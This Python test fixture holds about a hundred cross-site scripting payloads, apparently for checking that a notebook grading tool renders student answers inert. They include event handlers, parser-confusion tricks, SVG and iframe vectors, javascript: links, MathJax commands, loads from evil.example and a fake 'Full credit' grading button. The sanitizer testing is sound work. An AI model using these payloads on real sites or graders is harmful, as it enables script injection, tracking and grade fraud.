"""Answers that try to act when somebody reads them: by `mark()`, or by a request that says evil.

Those below `DEAD` do nothing today even where nothing is made inert, and why; they are tried all
the same, as what kills them is not ours.
"""

IMG = '<img src="/evil" onerror="mark()">'
EVIL = "https://evil.example"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'

PAYLOADS = {
    # Scripts and events
    "script": "A.\n\n<script>mark()</script>",
    "script in a line": "a <script>mark()</script> b",
    "script of another address": f'<script src="{EVIL}/a.js"></script>',
    "module": '<script type="module">mark()</script>',
    "image's error": '<img src=x onerror="mark()">',
    "image's error, no quotes": "<img/src=x/onerror=mark()>",
    "upper case": "<IMG SRC=x ONERROR=mark()>",
    "body's load": "<body onload=mark()>",
    "details": "<details open ontoggle=mark()><summary>a</summary>b</details>",
    "focus": "<input autofocus onfocus=mark()>",
    "click": "<button onclick=mark()>look</button>",
    "hover": '<p onmouseover="mark()">look</p>',
    "pointer": '<p onpointerenter="mark()">look</p>',
    "copy": '<p oncopy="mark()">copy this</p>',
    "animation": "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=mark()>a",
    "video": "<video><source onerror=mark()></video>",
    "audio": "<audio src=x onerror=mark()></audio>",
    "marquee": "<marquee onstart=mark()>a</marquee>",
    "nested in a table": f"| a | b |\n|---|---|\n| {IMG} | 1 |",
    "nested in a heading": f"# Sum {IMG}",
    "nested in a list": f"- one\n- {IMG}",
    "nested in a quotation": f"> {IMG}",
    "nested in emphasis": f"**{IMG}**",
    "shadow tree": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    # Parsers that disagree
    "comment": f"<!--> {IMG} -->",
    "comment, other end": f"<!-- a --!>{IMG}<!-- -->",
    "textarea": f"<textarea></textarea>{IMG}",
    "noscript": f"<noscript><p title='</noscript>{IMG}'></noscript>",
    "MathML": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=mark()&gt;'>" + IMG,
    "CDATA": f"<svg><![CDATA[><image xlink:href='x' onerror='mark()'/>]]></svg>{IMG}",
    "unclosed tag": '<img src=x onerror="mark()"\n\n> a',
    "NUL in a tag": "<im\0g src=x onerror=mark()><img\0 src=x onerror=mark()>" + IMG,
    "code that ends": f"`a</code>` </code>{IMG}",
    "mermaid": f"```mermaid\n{IMG}\n```",
    "cell that ends": f"</div></div></div></div>{IMG}",
    # SVG
    "svg's load": "<svg/onload=mark()>",
    "svg script": SVG.format("<script>mark()</script>"),
    "svg foreign object": SVG.format(f"<foreignObject><p>{IMG}</p></foreignObject>"),
    "svg image": SVG.format(f'<image href="{EVIL}/a.png" width="9" height="9"/>'),
    "svg use": SVG.format('<use href="/evil.svg#a"/>'),
    "svg animation": SVG.format('<animate onbegin="mark()" attributeName="x" dur="1s"/>'),
    "svg link": SVG.format('<a xlink:href="javascript:mark()"><text y="9">look</text></a>'),
    # Frames, objects and forms
    "frame of a script": '<iframe src="javascript:parent.mark()"></iframe>',
    "frame of a text": '<iframe srcdoc="<script>parent.mark()</script>"></iframe>',
    "frame of data": '<iframe src="data:text/html,<script>mark()</script>"></iframe>',
    "frame of another address": f'<iframe src="{EVIL}/"></iframe>',
    "object": '<object data="/evil.html"></object>',
    "embed": '<embed src="/evil.html">',
    "form": '<form action="/evil" method="post"><input name="a"><button>Go</button></form>',
    "form of a script": '<form action="javascript:mark()"><button>Go</button></form>',
    "button of a form": '<form><button formaction="javascript:mark()">Go</button></form>',
    "input that is an image": f'<input type="image" src="{EVIL}/a.png">',
    # Links
    "link": "[look](javascript:mark())",
    "link in HTML": '<a href="javascript:mark()">look</a>',
    "link, entity": '<a href="&#106;avascript:mark()">look</a>',
    "link, entity in Markdown": "[look](&#106;avascript:mark())",
    "link, tab in the scheme": '<a href="java&#9;script:mark()">look</a>',
    "link, line in the scheme": '<a href="java\nscript:mark()">look</a>',
    "link, blank before": '<a href=" &#1;javascript:mark()">look</a>',
    "link, upper case": "[look](JaVaScRiPt:mark())",
    "link by reference": "[look][1]\n\n[1]: javascript:mark()",
    "link of data": "[look](data:text/html,<script>mark()</script>)",
    "link away": f"[look]({EVIL}/)",
    "link away by itself": f"see {EVIL}/a",
    "link in brackets": f"<{EVIL}/a>",
    "link, script in brackets": "<javascript:mark()>",
    "ping": f'<a href="#a" ping="{EVIL}/ping">look</a>',
    "map": '<map name="m"><area shape="default" href="javascript:mark()"></map>'
    '<img usemap="#m" src="data:," width="9" height="9">',
    # What loads
    "image away": f"![a]({EVIL}/a.png)",
    "image away in HTML": f'<img src="{EVIL}/a.png">',
    "image away, set": f'<img srcset="{EVIL}/a.png 1x">',
    "image of the server": "![a](/evil.png)",
    "image by reference": f"![a][1]\n\n[1]: {EVIL}/a.png",
    "video's poster": f'<video poster="{EVIL}/a.png"></video>',
    "style that imports": f'<style>@import "{EVIL}/a.css";</style>',
    "style of all": f"<style>body {{ background: url({EVIL}/a.png) }}</style>",
    "style of one": f'<p style="background: url({EVIL}/a.png)">a</p>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "preload": f'<link rel="preload" as="image" href="{EVIL}/a.png">',
    "background": f'<table background="{EVIL}/a.png"><tr><td>a</td></tr></table>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/"><img src="a.png">',
    # What the page's own scripts do with it
    "fake button of a grade": '<div class="nbgrader_cell"><button class="full-credit" '
    'onclick="mark()">Full credit</button></div>',
    "target that is HTML": '<a data-toggle="collapse" data-target="<img src=x onerror=mark()>">'
    "look</a>",
    "tooltip": f"<a data-toggle='tooltip' data-html='true' title='{IMG}'>look</a>{IMG}",
    # Quotes in what becomes an attribute
    "alt": '![" onerror="mark()](/evil.png)',
    "title": '![a](/evil.png "\\" onerror=\\"mark()")',
    "language of code": '```"><img src=x onerror=mark()>\na\n```',
    "entities": "&lt;img src=x onerror=mark()&gt;",
    # Within a formula
    "formula": f"$a {IMG} b$",
    "formula apart": f"$$\n</p>{IMG}\n$$",
    "environment": f"\\begin{{align}}{IMG}\\end{{align}}",
    "image of SVG": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='mark()'/>\">",
}
DEAD = {
    "target that is HTML": "formgrader's own scripts set it off: tried there",
    "image's error, no quotes": "nbconvert's Markdown takes it for text",
    "svg's load": "the same",
    "unclosed tag": "the same",
    "marquee": "Chromium has the element, and no such event any more",
    "noscript": "read as text, as the page runs scripts",
    "link of data": "Chromium opens none at the top of a page",
    "language of code": "nbconvert writes it as text",
    "entities": "nbconvert writes them as text",
    "formula": "nbconvert writes HTML in a formula as text",
    "formula apart": "the same",
    "environment": "the same",
    "image of SVG": "no script runs in a picture",
}
# By what MathJax reads: commands that name an address, or that change what it does.
FORMULAS = {
    "address": r"$\href{javascript:mark()}{a}$",
    "address in brackets": r"\\(\href{javascript:mark()}{a}\\)",
    "address apart": "$$\n\\href{https://evil.example}{a}\n$$",
    "address in an environment": r"\begin{align} \href{javascript:mark()}{a} \end{align}",
    "address in a text": r"$\text{$\href{javascript:mark()}{a}$}$",
    "extension": r"$\require{action}\toggle{a}{b}\endtoggle$",
    "class": r"$\class{full-credit}{a}$",
    "name": r"$\cssId{notebook}{a}$",
    "style": r"$\style{position:fixed;background:url(https://evil.example)}{a}$",
    "box": r"$\bbox[url(https://evil.example)]{a}$",
    "letter": r"$\unicode[url]{x3c}$",
    "macro": r"$\def\a{\href{javascript:mark()}{a}}\a$",
    "macro by another name": r"$\let\frac\href \frac{javascript:mark()}{a}$",
    "without a closing mark": "$a\n\n" + r"\(\href{javascript:mark()}{a}\)",
    "in a code's shadow": r"`a $\href{javascript:mark()}{a}$",
}
